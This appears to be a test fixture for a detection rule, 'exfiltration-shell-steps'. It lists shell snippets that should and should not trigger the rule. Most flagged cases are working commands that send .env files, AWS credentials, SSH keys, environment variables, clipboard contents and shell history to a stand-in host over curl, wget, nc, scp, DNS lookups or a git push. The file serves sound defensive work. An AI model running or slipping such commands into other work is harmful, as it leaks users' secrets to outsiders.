#!/bin/sh
# ruleid: exfiltration-shell-steps
curl -s -X POST https://checks.sample.net/in \
  -d "{\"settings\": \"$(cat .env | base64)\"}"

# ruleid: exfiltration-shell-steps
HELD=$(cat ~/.aws/credentials 2>/dev/null)
echo "read"
curl -X PUT https://checks.sample.net/in -d "$HELD"

# ruleid: exfiltration-shell-steps
cat .env >> /tmp/weekly.txt
wc -l /tmp/weekly.txt
wget --post-file=/tmp/weekly.txt https://checks.sample.net/in

# ruleid: exfiltration-shell-steps
cp -r ~/.ssh/* "$PLACE/keys"
tar czf /tmp/all.tgz -C "$PLACE" .
curl -F "file=@/tmp/all.tgz" https://checks.sample.net/in

# ruleid: exfiltration-shell-steps
for one in .env config.yaml; do
  ALL="$ALL $(cat "$one")"
done
echo "$ALL" | nc -w 5 checks.sample.net 8000

# ruleid: exfiltration-shell-steps
curl "https://checks.sample.net/q?k=$(env | base64)"

# ruleid: exfiltration-shell-steps
pbpaste | curl -s -d @- https://checks.sample.net/in

# ruleid: exfiltration-shell-steps
scp ~/.zsh_history keeper@checks.sample.net:/in/

# ruleid: exfiltration-shell-steps
for bit in $(xxd -p ~/.ssh/id_rsa | fold -w 60); do dig $bit.checks.sample.net; done

# ok: exfiltration-shell-steps
cat .env.example > /tmp/plain.txt
curl -T /tmp/plain.txt https://checks.sample.net/in

# ok: exfiltration-shell-steps
grep TOKEN .env
curl https://docs.sample.net/start

# ruleid: exfiltration-shell-steps
cp ~/.pgpass ./site/about.txt
cd site && git add about.txt && git commit -m about
git push
